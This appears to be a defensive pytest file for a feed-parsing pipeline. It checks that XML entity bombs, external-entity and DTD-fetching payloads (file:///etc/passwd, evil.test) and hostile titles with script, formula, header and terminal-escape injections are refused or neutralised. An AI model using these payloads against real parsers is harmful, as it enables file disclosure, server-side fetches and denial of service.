"""Cases 22 to 36: what feeds may hold."""

import gzip
import resource
import time
from datetime import timedelta

import pytest

from pipeline import sources
from pipeline.model import PollResult, SourceKind
from pipeline.urls import canonical
from tests.unit.sources.feeds import AT, atom, page, poll, rss, trouble

ITEM = "<title>Dam</title><link>https://valley-post.example/dam</link>"


def titled(title: str) -> str:
    return f'<rss version="2.0"><channel><item><title>{title}</title></item></channel></rss>'


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMBS = {
    "billion laughs": f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]>{titled("&l9;")}',
    "quadratic blow-up": f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>{titled("&a;" * 50_000)}',
    "external entity": f'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>{titled("&x;")}',
    "parameter entity": f'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]>{titled("a")}',
    "second DOCTYPE": f'<!DOCTYPE rss><!-- --><!DOCTYPE rss SYSTEM "http://evil.test/x.dtd">{titled("a")}',
}


@pytest.mark.parametrize("kind", [SourceKind.FEED, SourceKind.SITEMAP])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_case_22_23_entities_are_refused_at_once(bomb: str, encoding: str, kind: SourceKind) -> None:
    started = time.process_time()
    message = trouble(bomb.encode(encoding), kind=kind)
    assert "declares entities" in message
    assert time.process_time() - started < 0.1


def test_case_23_an_external_dtd_is_never_asked_for() -> None:
    found = poll(
        '<!DOCTYPE rss SYSTEM "http://evil.test/x.dtd"><rss version="2.0"><channel><item>'
        + ITEM
        + "</item></channel></rss>"
    )
    assert [e.title for e in found.entries] == ["Dam"]


@pytest.mark.parametrize("title", ["<b>" * 3_300_000, "&lt;b&gt;" * 1_100_000, "<![CDATA[" + "<b>" * 3_300_000 + "]]>"])
def test_case_24_a_title_of_ten_megabytes_of_tags_costs_no_time(title: str) -> None:
    started = time.process_time()
    found = poll(rss(f"<title>{title}</title><link>/big</link>", ITEM))
    assert "Dam" in [e.title for e in found.entries]
    assert time.process_time() - started < 2


def test_case_24_a_million_nested_elements_cost_no_time() -> None:
    started = time.process_time()
    body = "<html><body>" + "<div>" * 1_000_000 + '<a href="/news/dam-cracks-near-old-town">Dam cracks near town</a>'
    found = poll(body, kind=SourceKind.PAGE, content_type="text/html")
    assert found.result in PollResult
    assert sources.discover(page(body)) == []
    assert time.process_time() - started < 4


@pytest.mark.parametrize("oldest_first", [False, True])
def test_case_25_of_a_feed_of_100_000_entries_the_newest_are_read(oldest_first: bool) -> None:
    items = [
        f"<title>n{n}</title><link>/n{n}</link><pubDate>{AT - timedelta(minutes=n):%d %b %Y %H:%M:%S} GMT</pubDate>"
        for n in range(100_000)
    ]
    body = rss(*(reversed(items) if oldest_first else items))
    before, started = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
    found = poll(body)
    assert {e.title for e in found.entries} == {f"n{n}" for n in range(1_000)}
    assert found.notes == ("99000 older entries left out: a feed is read up to 1000 entries",)
    assert time.process_time() - started < 10
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 * 1024


def test_case_26_a_web_page_instead_of_a_feed_offers_the_feeds_it_names() -> None:
    html = (
        '<!doctype html><html><head><link rel="alternate" type="application/rss+xml" href="/rss/all.xml">'
        "<title>Moved</title></head><body>We have moved</body></html>"
    )
    message = trouble(html, content_type="text/html; charset=utf-8")
    assert message == (
        "https://www.valley-post.example/feeds/news.xml: it serves a web page, not a feed; "
        "its page offers https://www.valley-post.example/rss/all.xml"
    )


def test_case_26_a_web_page_that_names_no_feed() -> None:
    assert "look for the feed's address" in trouble("<html><body>Sorry</body></html>", content_type="text/html")


@pytest.mark.parametrize(
    ("body", "remedy"),
    [
        ("just words", "no feed"),
        ('{"a": [', "broken JSON"),
        ('{"version": "1", "items": []}', "no JSON Feed"),
        ('{"items": ' + "[" * 100_000, "broken JSON"),
        ('<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>', "kind sitemap"),
        ("<svg/>", "no feed"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "no feed"),
    ],
)
def test_case_26_other_things_that_are_no_feed(body: str | bytes, remedy: str) -> None:
    assert remedy in trouble(body)


@pytest.mark.parametrize("body", [b"", b"  \r\n\t"])
def test_case_27_an_empty_answer_is_an_error(body: bytes) -> None:
    assert "sent an empty answer" in trouble(body)


TITLE = "Müller's café “closed” – 5 €"


@pytest.mark.parametrize(
    ("label", "encoding", "header"),
    [
        ('encoding="utf-8"', "cp1252", "application/xml; charset=utf-8"),
        ('encoding="utf-8"', "cp1252", "application/xml"),
        ("", "cp1252", "application/xml"),
        ("", "utf-8", "application/xml"),
        ('encoding="iso-8859-1"', "utf-8", "text/xml; charset=iso-8859-1"),
        ('encoding="windows-1252"', "cp1252", ""),
        ('encoding="utf-16"', "utf-16", ""),
        ('encoding="utf-8"', "utf-16-le", ""),
        ("", "utf-16-be", ""),
        ("", "utf-8-sig", "application/xml; charset=windows-1251"),
        ('encoding="hex"', "utf-8", "application/xml; charset=rot13"),
    ],
)
def test_case_28_the_text_is_right_whatever_its_label_says(label: str, encoding: str, header: str) -> None:
    body = f'<?xml version="1.0" {label}?>' + rss(f"<title>{TITLE}</title><link>/x</link>").partition("?>")[2]
    (entry,) = poll(body.encode(encoding), content_type=header).entries
    assert entry.title == TITLE


@pytest.mark.parametrize(
    ("encoding", "title"), [("koi8-r", "Пожар в порту"), ("shift_jis", "港で火事"), ("iso-2022-jp", "港で火事")]
)
def test_case_28_an_honest_label_is_believed(encoding: str, title: str) -> None:
    body = f'<?xml version="1.0" encoding="{encoding}"?>{titled(title)}'
    (entry,) = poll(body.encode(encoding)).entries
    assert entry.title == title


def test_case_29_control_and_direction_characters_are_stripped() -> None:
    title = "Da\x00m \x1b[31mbur\u202est\u2066s\ufeff &#0; &#27; &#55296; &#x202E; \u200bnow"
    (entry,) = poll(rss(f"<title>{title}</title><link>/x\x00</link><description>\x07{title}</description>")).entries
    for words in (entry.title, entry.summary, entry.listed_url):
        assert words.isprintable()
        words.encode("utf-8")
    assert entry.title.startswith("Dam [31mbursts")


def test_case_30_entries_without_guid_are_known_by_link_else_by_hash() -> None:
    linked, bare = poll(rss("<title>a</title><link>/a</link>", "<title>b</title>")).entries
    assert linked.url == "https://valley-post.example/a"
    assert bare.url.startswith("urn:sha256:")


def test_case_31_one_guid_for_all_entries_still_makes_distinct_entries() -> None:
    found = poll(rss(*(f"<title>{n}</title><link>/{n}</link><guid isPermaLink='false'>same</guid>" for n in "abc")))
    assert len({e.url for e in found.entries}) == 3


def test_case_31_one_guid_for_all_entries_without_links() -> None:
    found = poll(rss(*(f"<title>{n}</title><guid isPermaLink='false'>same</guid>" for n in "abc")))
    assert len({e.url for e in found.entries}) == 3


def test_case_32_the_same_guid_in_two_feeds_is_no_collision() -> None:
    item = "<title>Dam</title><link>/dam</link><guid isPermaLink='false'>1</guid>"
    (here,) = poll(rss(item), url="https://one.example/feed").entries
    (there,) = poll(rss(item), url="https://two.example/feed").entries
    assert here.url != there.url


@pytest.mark.parametrize(
    "raw", ["yesterday", "Mon, 32 Foo 2026", "2026-13-45T99:00:00Z", "Mon, 02 Mar 2026 08:30:00 QQT", "9" * 100_000]
)
def test_case_33_a_date_that_makes_no_sense_is_noted_and_nothing_is_lost(raw: str) -> None:
    found = poll(
        rss(
            ITEM + f"<pubDate>{raw}</pubDate>",
            "<title>b</title><link>/b</link><pubDate>02 Mar 2026 08:00 GMT</pubDate>",
        )
    )
    bad, good = found.entries
    assert bad.published_at is None
    assert len(bad.notes) == 1
    assert bad.notes[0].endswith("not understood")
    assert good.published_at is not None


@pytest.mark.parametrize("raw", ["Thu, 01 Jan 2099 00:00:00 GMT", "Thu, 01 Jan 1970 00:00:00 GMT"])
def test_case_34_a_date_of_another_age_is_dropped_and_noted(raw: str) -> None:
    (entry,) = poll(rss(ITEM + f"<pubDate>{raw}</pubDate>")).entries
    assert entry.published_at is None
    assert "lies" in entry.notes[0]


def test_case_35_an_edit_in_place_keeps_the_identity_and_changes_the_fingerprint() -> None:
    (before,) = poll(rss(f"<guid>https://valley-post.example/dam</guid>{ITEM}")).entries
    (after,) = poll(rss(f"<guid>https://valley-post.example/dam</guid>{ITEM.replace('Dam', 'Dam bursts')}")).entries
    assert (before.url, before.fingerprint != after.fingerprint) == (after.url, True)


@pytest.mark.parametrize(
    "link",
    [
        "https://valley-post.example/news/dam",
        "http://valley-post.example/news/dam",
        "https://www.valley-post.example/news/dam/",
        "https://m.valley-post.example/news/dam",
        "https://amp.valley-post.example/news/dam",
        "https://www.valley-post.example/news/dam/amp/",
        "https://www.valley-post.example/news/dam?amp=1",
        "https://www.valley-post.example/news/dam?utm_source=rss&utm_medium=feed",
        "https://www.valley-post.example/news/dam?fbclid=Iw123#comments",
        "HTTPS://WWW.Valley-Post.Example:443/news/./dam".replace("/./", "/"),
        "https://www-valley--post-example.cdn.ampproject.org/c/s/www.valley-post.example/news/dam.amp",
    ],
)
def test_case_36_all_its_addresses_are_one_article(link: str) -> None:
    assert canonical(link) == "https://valley-post.example/news/dam"
    (entry,) = poll(atom(f'<title>Dam</title><link href="{link.replace("&", "&amp;")}"/>')).entries
    assert entry.url == "https://valley-post.example/news/dam"


def test_case_37_hostile_titles_come_out_as_words() -> None:
    (entry,) = poll(
        rss("<title><![CDATA[<script>x()</script>=cmd()\r\nBcc: all \x1b]0;pwn\x07]]></title><link>/x</link>")
    ).entries
    assert entry.title == "=cmd() Bcc: all ]0;pwn"


def test_case_23_a_sitemap_with_entities_inside_a_gzip_file_is_refused() -> None:
    assert "declares entities" in trouble(gzip.compress(BOMBS["external entity"].encode()), kind=SourceKind.SITEMAP)
